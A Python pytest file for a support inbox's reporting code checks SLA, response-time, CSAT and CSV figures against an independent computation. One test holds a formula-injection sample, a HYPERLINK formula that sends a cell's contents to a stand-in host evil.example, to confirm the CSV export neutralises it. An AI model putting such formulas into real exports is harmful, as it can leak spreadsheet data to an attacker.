"""Reports on both stores: every figure against a plain Python computation of the same generated conversations.

Random conversations (seeded) go through the real pipeline with an injected clock: customers post at known times on
three channels (one with a per-channel target and business hours), agents reply at known moments, some
conversations are resolved without a reply, some wait (before or past their deadline), customers write again
(next responses), reviews are edited, CSAT questions are asked and answered. The expected figures are computed here
from the scenario alone, with `inbox.sla` for the deadlines (the SLA clock's own rule) and zoneinfo for days and hours.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import math
import random
from collections import defaultdict
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass, field
from datetime import UTC, datetime, time, timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
import pytest_asyncio
import sqlalchemy as sa

from inbox.connector import Kind, RawItem
from inbox.pipeline.ingest import Source
from inbox.reports import (
    CSV_COLUMNS,
    KEYS,
    ReportError,
    Window,
    build_report,
    check_by,
    conversation_rows,
    csv_pieces,
    csv_text,
    parse_window,
    report_json,
)
from inbox.reports.figures import csv_record
from inbox.service import Inbox
from inbox.settings import Settings
from inbox.store.models import CsatQuestion, Item
from inbox.store.reports import Conversation, offsets
from inbox.templates import ReplyTemplates
from inbox.triage import Triager
from inbox.triage.labels import PRIORITY_ORDER
from tests.conftest import STORES, FakeClock, close_connectors, make_settings, open_store

PARIS = ZoneInfo("Europe/Paris")
# Thursday before the end of summer time in Paris (Sunday 25 October 2026): days and hours cross the change.
T0 = datetime(2026, 10, 22, 0, 0, tzinfo=UTC)
CHANNELS = {"acme-x": "x", "acme-masto": "mastodon", "acme-google": "google_reviews"}
AGENTS = ("ana", "ben", "cy")
TEXTS = (
    "where is my order #12345? it's late",
    "I was charged twice for my subscription, refund please",
    "Merci beaucoup, super service !",
    "Colis jamais arrivé, c'est nul",
    "the app keeps crashing when I log in",
    "do you have this jacket in size M?",
    "Comanda mea nu a ajuns, ce se întâmplă?",
)


def config(tmp_path: Path) -> dict[str, Any]:
    return {
        "sla": {
            "first_response_minutes": 30,
            "warn_after_minutes": 20,
            "channels": {
                "mastodon": {"first_response_minutes": 60, "warn_after_minutes": 45},
                "google_reviews": {
                    "first_response_minutes": 240,
                    "warn_after_minutes": 200,
                    "business_hours": {"timezone": "Europe/Paris", "start": time(9), "end": time(18)},
                },
            },
        },
        "reports": {"timezone": "Europe/Paris"},
        "connectors": [
            {"name": name, "type": "jsonl", "path": str(tmp_path / f"{name}.jsonl"), "channel": channel}
            for name, channel in CHANNELS.items()
        ],
    }


@dataclass
class Conv:
    """One generated conversation: what happens to it, and when."""

    key: str
    connector: str
    kind: Kind
    text: str
    posted: datetime
    rating: int | None = None
    reply: tuple[datetime, str] | None = None
    assign: tuple[datetime, str] | None = None
    resolve: datetime | None = None
    follow_up: datetime | None = None
    follow_rating: int | None = None
    reply2: tuple[datetime, str] | None = None
    csat: tuple[str, int | None] | None = None  # question status, score
    texts: list[tuple[str, int | None, datetime]] = field(default_factory=list)

    @property
    def channel(self) -> str:
        return CHANNELS[self.connector]


def generate(seed: int, count: int, end: datetime) -> list[Conv]:
    rng = random.Random(seed)
    convs = []
    for n in range(count):
        connector = rng.choice(list(CHANNELS))
        review = CHANNELS[connector] == "google_reviews"
        kind = Kind.REVIEW if review else rng.choice([Kind.MENTION, Kind.DM])
        posted = T0 + timedelta(seconds=rng.randrange(0, int((end - T0).total_seconds()) - 3600))
        conv = Conv(f"c{n}", connector, kind, rng.choice(TEXTS), posted, rating=rng.randint(1, 5) if review else None)
        fate = rng.random()
        if fate < 0.7:
            delay = rng.choice([rng.uniform(1, 30), rng.uniform(20, 90), rng.uniform(60, 1500)])
            at = posted + timedelta(seconds=round(delay * 60))
            if at < end - timedelta(minutes=1):
                if rng.random() < 0.4:
                    conv.assign = (posted + (at - posted) / 2, rng.choice(AGENTS))
                conv.reply = (at, rng.choice(AGENTS))
                if rng.random() < 0.5:
                    follow = at + timedelta(seconds=rng.randrange(60, 7200))
                    if follow < end - timedelta(minutes=1):
                        conv.follow_up = follow
                        conv.follow_rating = rng.randint(1, 5) if review else None
                        if rng.random() < 0.6:
                            answer = follow + timedelta(seconds=rng.randrange(60, 6000))
                            if answer < end:
                                conv.reply2 = (answer, rng.choice(AGENTS))
                if rng.random() < 0.6:
                    status = rng.choice(["scheduled", "sent", "answered", "answered", "closed", "failed"])
                    conv.csat = (status, rng.randint(1, 5) if status == "answered" else None)
        elif fate < 0.8:
            conv.resolve = posted + timedelta(seconds=rng.randrange(60, 6000))
            if conv.resolve >= end:
                conv.resolve = None
        convs.append(conv)
    return convs


async def play(inbox: Any, engine: Any, clock: FakeClock, convs: list[Conv]) -> dict[str, int]:
    """Run the scenario through ingest and agent actions in time order; the thread id of each conversation."""
    sources = {name: Source.of(inbox.connectors[name]) for name in CHANNELS}
    steps: list[tuple[datetime, int, Callable[[], Any]]] = []
    threads: dict[str, int] = {}

    def post(conv: Conv, external_id: str, at: datetime, rating: int | None) -> Callable[[], Any]:
        async def run() -> None:
            raw = RawItem(
                external_id, conv.text, at, conv.kind, f"{conv.key}-customer", thread_id=conv.key, rating=rating
            )
            await inbox.ingestor.ingest(sources[conv.connector], [raw])
            if conv.key not in threads:
                async with engine.connect() as conn:
                    query = sa.select(Item.thread_id).where(Item.external_id == external_id)
                    threads[conv.key] = (await conn.execute(query)).scalar_one()

        return run

    def act(conv: Conv, what: str, agent: str) -> Callable[[], Any]:
        async def run() -> None:
            thread = threads[conv.key]
            if what == "reply":
                assert (await inbox.actions.reply(thread, "Thanks, on it.", agent)).status == "sent"
            elif what == "assign":
                await inbox.actions.assign(thread, agent)
            else:
                await inbox.actions.resolve(thread, agent)

        return run

    for conv in convs:
        steps.append((conv.posted, len(steps), post(conv, conv.key, conv.posted, conv.rating)))
        if conv.assign:
            steps.append((conv.assign[0], len(steps), act(conv, "assign", conv.assign[1])))
        if conv.reply:
            steps.append((conv.reply[0], len(steps), act(conv, "reply", conv.reply[1])))
        if conv.resolve:
            steps.append((conv.resolve, len(steps), act(conv, "resolve", "ana")))
        if conv.follow_up:
            steps.append((conv.follow_up, len(steps), post(conv, f"{conv.key}-2", conv.follow_up, conv.follow_rating)))
        if conv.reply2:
            steps.append((conv.reply2[0], len(steps), act(conv, "reply", conv.reply2[1])))
    for at, _, step in sorted(steps, key=lambda s: (s[0], s[1])):
        clock.now = at
        await step()
    async with engine.begin() as conn:
        for conv in convs:
            if conv.csat is None:
                continue
            status, score = conv.csat
            values = {"thread_id": threads[conv.key], "connector": conv.connector, "channel": conv.channel}
            values |= {"language": "en", "ask_at": T0, "status": status, "score": score, "created_at": T0}
            if status in ("sent", "answered", "closed"):
                values["sent_at"] = T0
            await conn.execute(sa.insert(CsatQuestion).values(**values))
    return threads


# -- the independent computation --------------------------------------------------------------------------------------


def percentile(values: list[float], p: float) -> float | None:
    """As PostgreSQL's percentile_cont: linear interpolation between the closest ranks."""
    if not values:
        return None
    ordered = sorted(values)
    position = (len(ordered) - 1) * p
    low = math.floor(position)
    high = min(low + 1, len(ordered) - 1)
    return ordered[low] + (ordered[high] - ordered[low]) * (position - low)


def share(part: int, whole: int) -> float | None:
    return part / whole if whole else None


@dataclass
class Expected:
    """One conversation as the report should see it."""

    conv: Conv
    outcome: str
    minutes: float | None
    target: float
    next_met: int
    next_missed: int
    agent: str | None
    intent: str
    language: str
    sentiment: str
    priority: str


def expect(conv: Conv, settings: Settings, triager: Triager, now: datetime) -> Expected:
    policy = settings.sla.policies().for_channel(conv.channel)
    due = policy.deadlines(conv.posted)[1]
    if conv.reply:
        outcome = "met" if conv.reply[0] <= due else "missed"
    elif conv.resolve:
        outcome = "none"
    else:
        outcome = "breached" if due <= now else "waiting"
    next_met = next_missed = 0
    if conv.follow_up:
        due2 = policy.deadlines(conv.follow_up)[1]
        if conv.reply2:
            next_met, next_missed = (1, 0) if conv.reply2[0] <= due2 else (0, 1)
        elif due2 <= now:
            next_missed = 1
    first = triager.classify(conv.text, rating=conv.rating, kind=str(conv.kind))
    ranks = [first.priority]
    if conv.follow_up:
        ranks.append(triager.classify(conv.text, rating=conv.follow_rating, kind=str(conv.kind)).priority)
    return Expected(
        conv=conv,
        outcome=outcome,
        minutes=(conv.reply[0] - conv.posted).total_seconds() / 60 if conv.reply else None,
        target=policy.first_response_minutes,
        next_met=next_met,
        next_missed=next_missed,
        agent=conv.reply[1] if conv.reply else None,
        intent=str(first.intent),
        language=first.language,
        sentiment=str(first.sentiment),
        priority=str(max(ranks, key=lambda p: PRIORITY_ORDER.index(p))),
    )


def group_of(e: Expected, by: str | None) -> str | None:
    local = e.conv.posted.astimezone(PARIS)
    return {
        None: None,
        "channel": e.conv.channel,
        "connector": e.conv.connector,
        "agent": e.agent or "(none)",
        "intent": e.intent,
        "language": e.language,
        "priority": e.priority,
        "day": local.date().isoformat(),
        "hour": f"{('Mon', 'Tue', 'Wed', 'Thu', 'Fri', 'Sat', 'Sun')[local.weekday()]} {local.hour:02d}",
    }[by]


def expected_rows(expected: list[Expected], by: str | None) -> dict[str | None, dict[str, Any]]:
    groups: dict[str | None, list[Expected]] = defaultdict(list)
    for e in expected:
        groups[group_of(e, by)].append(e)
    rows = {}
    for group, members in groups.items():
        minutes = [e.minutes for e in members if e.minutes is not None]
        met = sum(e.outcome == "met" for e in members)
        missed = sum(e.outcome in ("missed", "breached") for e in members)
        next_met = sum(e.next_met for e in members)
        next_missed = sum(e.next_missed for e in members)
        asked = [e.conv.csat for e in members if e.conv.csat and e.conv.csat[0] in ("sent", "answered", "closed")]
        scores = [score for status, score in asked if status == "answered" and score is not None]
        rows[group] = {
            "group": group,
            "conversations": len(members),
            "first_responses": len(minutes),
            "met": met,
            "missed": missed,
            "attainment": share(met, met + missed),
            "open_not_due": sum(e.outcome == "waiting" for e in members),
            "waiting_past_due": sum(e.outcome == "breached" for e in members),
            "first_response_minutes": {f"p{round(p * 100)}": percentile(minutes, p) for p in (0.5, 0.9, 0.95)},
            "next_response_attainment": share(next_met, next_met + next_missed),
            "within_30_minutes": share(sum(m <= 30 for m in minutes), len(minutes)),
            "csat": {
                "questions": len(asked),
                "answers": len(scores),
                "satisfied": share(sum(s >= 4 for s in scores), len(scores)),
                "response_rate": share(len(scores), len(asked)),
            },
        }
    return rows


def assert_close(actual: Any, expected: Any, where: str) -> None:
    """Equal, numbers to the report's rounding (minutes to 0.01, ratios to 0.0001)."""
    if isinstance(expected, dict):
        assert isinstance(actual, dict) and set(actual) == set(expected), where
        for key in expected:
            assert_close(actual[key], expected[key], f"{where}.{key}")
    elif isinstance(expected, float):
        assert actual is not None and abs(actual - expected) <= 0.0051, f"{where}: {actual} != {expected}"
    else:
        assert actual == expected, f"{where}: {actual!r} != {expected!r}"


# -- the tests --------------------------------------------------------------------------------------------------------


@dataclass
class Scenario:
    """The played conversations on one store: what the tests read back, and what they expect."""

    engine: Any
    settings: Settings
    window: Window
    expected: list[Expected]
    threads: dict[str, int]


# The tests only read the played store, so it is played once per store for the module (about 1.5 s each time).
@pytest_asyncio.fixture(scope="module", loop_scope="module", params=STORES)
async def scenario(
    request: pytest.FixtureRequest,
    tmp_path_factory: pytest.TempPathFactory,
    migrated_sqlite_template: Path,
    triager: Triager,
    templates: ReplyTemplates,
) -> AsyncIterator[Scenario]:
    folder = tmp_path_factory.mktemp("reports")
    end = T0 + timedelta(days=6)
    convs = generate(seed=13, count=60, end=end)
    # Two still before their deadline at the end (one on a business-hours channel posted on a Tuesday night).
    convs.append(Conv("fresh", "acme-masto", Kind.MENTION, TEXTS[4], end - timedelta(minutes=20)))
    convs.append(Conv("night", "acme-google", Kind.REVIEW, TEXTS[3], end - timedelta(hours=3), rating=2))
    # One conversation before the window, to be left out.
    early = Conv("early", "acme-x", Kind.MENTION, TEXTS[0], T0 - timedelta(hours=2))
    early.reply = (T0 - timedelta(hours=1), "ana")
    async with open_store(request.param, folder, migrated_sqlite_template) as (engine, _, _):
        clock = FakeClock()
        settings = make_settings(folder, **config(folder))
        inbox = Inbox(settings, engine, clock=clock, triager=triager, templates=templates)
        try:
            threads = await play(inbox, engine, clock, [early, *convs])
        finally:
            await close_connectors(inbox)
        expected = [expect(conv, settings, triager, end) for conv in convs]
        # The scenario covers what it claims to, so no figure is checked on nothing.
        outcomes = {e.outcome for e in expected}
        assert outcomes == {"met", "missed", "breached", "waiting", "none"}, outcomes
        assert any(e.next_met for e in expected) and any(e.next_missed for e in expected)
        assert any(c.follow_rating is not None for c in convs)
        yield Scenario(engine, settings, Window(T0, end), expected, threads)


@pytest.mark.asyncio(loop_scope="module")
@pytest.mark.parametrize("by", [None, *KEYS])
async def test_every_figure_matches_a_plain_computation(scenario: Scenario, by: str | None) -> None:
    engine, settings, window, expected = scenario.engine, scenario.settings, scenario.window, scenario.expected
    report = report_json(await build_report(engine, settings, window, by, window.end))
    assert (report["from"], report["to"], report["by"]) == ("2026-10-22T00:00:00Z", "2026-10-28T00:00:00Z", by)
    want = expected_rows(expected, by)
    got = {row["group"]: row for row in report["rows"]}
    assert set(got) == set(want)
    for group, row in want.items():
        assert_close(got[group], row, f"{by}={group}")
    if by is None:
        assert len(report["rows"]) == 1 and report["rows"][0]["conversations"] == len(expected)


@pytest.mark.asyncio(loop_scope="module")
@pytest.mark.parametrize("by", [None, "channel"])
async def test_a_narrow_window_counts_only_its_conversations(scenario: Scenario, by: str | None) -> None:
    """A day of six: read through the opened_at index (SQLite reads the whole table for a broad window)."""
    engine, settings, window, expected = scenario.engine, scenario.settings, scenario.window, scenario.expected
    day = Window(T0 + timedelta(days=1), T0 + timedelta(days=2))
    inside = [e for e in expected if day.start <= e.conv.posted < day.end]
    assert 0 < len(inside) * 4 < len(expected)
    report = report_json(await build_report(engine, settings, day, by, window.end))
    want = expected_rows(inside, by)
    got = {row["group"]: row for row in report["rows"]}
    assert set(got) == set(want)
    for group, row in want.items():
        assert_close(got[group], row, f"{by}={group}")


@pytest.mark.asyncio(loop_scope="module")
async def test_one_csv_row_per_conversation_with_the_contract_columns(scenario: Scenario) -> None:
    engine, settings, window, expected = scenario.engine, scenario.settings, scenario.window, scenario.expected
    threads = scenario.threads
    rows = await conversation_rows(engine, settings, window, window.end)
    text = csv_text(rows)
    lines = text.splitlines()
    assert lines[0] == ",".join(CSV_COLUMNS)
    assert len(lines) == 1 + len(expected)
    by_id = {row.conversation_id: row for row in rows}
    for e in expected:
        conv = e.conv
        record = dict(zip(CSV_COLUMNS, csv_record(by_id[threads[conv.key]]), strict=True))
        minutes = record.pop("first_response_minutes")
        if e.minutes is None:
            assert minutes == ""
        else:
            assert abs(float(minutes) - e.minutes) <= 0.0051
        status, score = conv.csat or (None, None)
        edited = conv.follow_rating if conv.follow_up else None
        assert record == {
            "conversation_id": str(threads[conv.key]),
            "connector": conv.connector,
            "channel": conv.channel,
            "kind": str(conv.kind),
            "customer": f"{conv.key}-customer",
            "language": e.language,
            "intent": e.intent,
            "sentiment": e.sentiment,
            "priority": e.priority,
            "started_at": conv.posted.strftime("%Y-%m-%dT%H:%M:%SZ"),
            "first_response_at": conv.reply[0].strftime("%Y-%m-%dT%H:%M:%SZ") if conv.reply else "",
            "sla_target_minutes": str(float(e.target)),
            "sla_outcome": e.outcome,
            "next_responses_met": str(e.next_met),
            "next_responses_missed": str(e.next_missed),
            "assignee": conv.assign[1] if conv.assign else "",
            "replied_by": e.agent or "",
            "resolved_at": conv.resolve.strftime("%Y-%m-%dT%H:%M:%SZ") if conv.resolve else "",
            "csat": str(score) if status == "answered" else "",
            "rating_before": "" if conv.rating is None else str(conv.rating),
            "rating_after": "" if conv.rating is None else str(edited if edited is not None else conv.rating),
        }, conv.key


async def test_an_empty_window_has_one_total_row_of_zeros_and_nulls(engine: Any, tmp_path: Path) -> None:
    settings = make_settings(tmp_path)
    report = report_json(await build_report(engine, settings, Window(T0, T0 + timedelta(days=1)), None, T0))
    [row] = report["rows"]
    assert row["group"] is None and row["conversations"] == 0
    assert row["attainment"] is None and row["first_response_minutes"] == {"p50": None, "p90": None, "p95": None}
    assert row["csat"] == {"questions": 0, "answers": 0, "satisfied": None, "response_rate": None}
    grouped = report_json(await build_report(engine, settings, Window(T0, T0 + timedelta(days=1)), "channel", T0))
    assert grouped["rows"] == []


def test_windows_are_parsed_in_the_report_zone_and_bad_ones_say_what_is_accepted() -> None:
    now = datetime(2026, 12, 8, 10, 30, tzinfo=UTC)
    assert parse_window(now, PARIS) == Window(now - timedelta(days=7), now)
    assert parse_window(now, PARIS, since="24h") == Window(now - timedelta(hours=24), now)
    week = parse_window(now, PARIS, start="2026-12-01", end="2026-12-08")
    assert week == Window(datetime(2026, 11, 30, 23, tzinfo=UTC), datetime(2026, 12, 7, 23, tzinfo=UTC))
    assert parse_window(now, PARIS, start="2026-12-07").end == now
    for kwargs, message in [
        ({"since": "7 days"}, "not a duration"),
        ({"start": "yesterday"}, "not a date"),
        ({"start": "2026-12-08", "end": "2026-12-01"}, "must be after"),
        ({"end": "2026-12-01"}, "--to needs --from"),
        ({"since": "7d", "start": "2026-12-01"}, "not both"),
    ]:
        with pytest.raises(ReportError, match=message):
            parse_window(now, PARIS, **kwargs)
    with pytest.raises(ReportError, match="use one of channel, connector, agent"):
        check_by("team")


def test_the_zone_offsets_over_a_window_change_at_the_daylight_saving_instant() -> None:
    change = datetime(2026, 10, 25, 1, 0, tzinfo=UTC)  # 03:00 summer time becomes 02:00 winter time
    assert offsets(PARIS, T0, T0 + timedelta(days=6)) == [(T0, 7200), (change, 3600)]
    assert offsets(UTC, T0, T0 + timedelta(days=6)) == [(T0, 0)]


def test_csv_text_a_spreadsheet_would_run_as_a_formula_gets_a_leading_quote() -> None:
    started = datetime(2026, 12, 1, 9, 12, tzinfo=UTC)
    row = Conversation(
        conversation_id=7,
        connector="+acme",
        channel="-x",
        kind="mention",
        customer='=HYPERLINK("http://evil.example/?"&A1,"click")',
        language="@fr",
        intent="\tbilling",
        sentiment="\rnegative",
        priority=2,
        started_at=started,
        first_response_at=started + timedelta(minutes=12),
        first_response_minutes=12.0,
        sla_target_minutes=30.0,
        sla_outcome="met",
        next_responses_met=0,
        next_responses_missed=1,
        assignee="@ana",
        replied_by="=1+1",
        resolved_at=None,
        csat=5,
        rating_before=None,
        rating_after=None,
    )
    [record] = list(csv.DictReader(io.StringIO(csv_text([row]), newline="")))
    assert record["customer"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert (record["connector"], record["channel"], record["language"]) == ("'+acme", "'-x", "'@fr")
    assert (record["intent"], record["sentiment"]) == ("'\tbilling", "'\rnegative")
    assert (record["assignee"], record["replied_by"]) == ("'@ana", "'=1+1")
    # Numbers, times and the contract's fixed words are left alone; plain text too.
    assert record["kind"] == "mention" and record["priority"] == PRIORITY_ORDER[2]
    assert record["started_at"] == "2026-12-01T09:12:00Z" and record["first_response_at"] == "2026-12-01T09:24:00Z"
    assert (record["first_response_minutes"], record["sla_target_minutes"], record["csat"]) == ("12.0", "30.0", "5")
    assert record["next_responses_missed"] == "1"
    safe = dataclasses.replace(row, customer="ana-b", connector="acme", assignee=None)
    assert csv_record(safe)[1] == "acme" and csv_record(safe)[4] == "ana-b" and csv_record(safe)[16] == ""


def offsets_by_quarter_hours(zone: Any, start: datetime, end: datetime) -> list[tuple[datetime, int]]:
    """The former `offsets`, a quarter of an hour at a time: what the day-stepping one must find, change for change."""

    def offset(at: datetime) -> int:
        value = at.astimezone(zone).utcoffset()
        return int(value.total_seconds()) if value is not None else 0

    found = [(start, offset(start))]
    at = start
    while at < end:
        later = min(at + timedelta(minutes=15), end)
        if offset(later) != found[-1][1]:
            lo, hi = at, later
            while hi - lo > timedelta(seconds=1):
                mid = lo + (hi - lo) / 2
                lo, hi = (mid, hi) if offset(mid) == found[-1][1] else (lo, mid)
            found.append((hi.replace(microsecond=0), offset(hi)))
        at = later
    return found


@pytest.mark.parametrize(
    ("zone", "start", "end"),
    [
        ("Europe/Paris", datetime(2025, 1, 1, 0, 0, 0, 500000, tzinfo=UTC), datetime(2027, 3, 29, 1, 0, tzinfo=UTC)),
        ("America/New_York", datetime(2025, 3, 9, 7, 0, tzinfo=UTC), datetime(2027, 11, 7, 6, 0, 1, tzinfo=UTC)),
        ("Australia/Lord_Howe", datetime(2025, 1, 1, 13, 17, 3, tzinfo=UTC), datetime(2027, 6, 1, tzinfo=UTC)),
        ("Asia/Kolkata", datetime(1941, 6, 1, tzinfo=UTC), datetime(1946, 6, 1, tzinfo=UTC)),
    ],
)
def test_offsets_found_a_day_at_a_time_are_those_found_a_quarter_hour_at_a_time(
    zone: str, start: datetime, end: datetime
) -> None:
    found = offsets(ZoneInfo(zone), start, end)
    assert found == offsets_by_quarter_hours(ZoneInfo(zone), start, end)
    assert len(found) >= 3  # the windows cross changes: 30-minute ones on Lord Howe, war time in Kolkata


def test_extreme_or_too_long_windows_are_refused_with_a_clear_message() -> None:
    now = datetime(2026, 12, 8, 10, 30, tzinfo=UTC)
    for zone, kwargs in [
        (ZoneInfo("Asia/Kolkata"), {"start": "0001-01-01"}),
        (ZoneInfo("America/New_York"), {"start": "9999-12-01", "end": "9999-12-31T23:00"}),
        (UTC, {"start": "9999-12-31T23:00-05:00"}),
        (ZoneInfo("America/New_York"), {"start": "0001-01-01T00:00Z"}),  # exists in UTC, not in New York
    ]:
        with pytest.raises(ReportError, match="is out of range"):
            parse_window(now, zone, **kwargs)
    with pytest.raises(ReportError, match="at most 3650 days"):
        parse_window(now, PARIS, start="2000-01-01", end="2026-01-01")
    ten_years = parse_window(now, UTC, start="2016-12-10", end="2026-12-08")
    assert ten_years.end - ten_years.start == timedelta(days=3650)
    # The last representable days still work, down to the offsets over them.
    last = parse_window(now, UTC, start="9999-12-01", end="9999-12-31T23:59:59")
    assert offsets(UTC, last.start, last.end) == [(last.start, 0)]


@pytest.mark.asyncio(loop_scope="module")
async def test_the_csv_streamed_a_page_at_a_time_is_the_csv_of_all_rows_at_once(scenario: Scenario) -> None:
    engine, settings, window, expected = scenario.engine, scenario.settings, scenario.window, scenario.expected
    whole = csv_text(await conversation_rows(engine, settings, window, window.end))
    pieces = [piece async for piece in csv_pieces(engine, settings, window, window.end, page=7)]
    assert len(pieces) == math.ceil(len(expected) / 7) and pieces[0].startswith(",".join(CSV_COLUMNS) + "\n")
    assert "".join(pieces) == whole
    empty = Window(T0 - timedelta(days=30), T0 - timedelta(days=29))
    assert [piece async for piece in csv_pieces(engine, settings, empty, window.end)] == [csv_text([])]
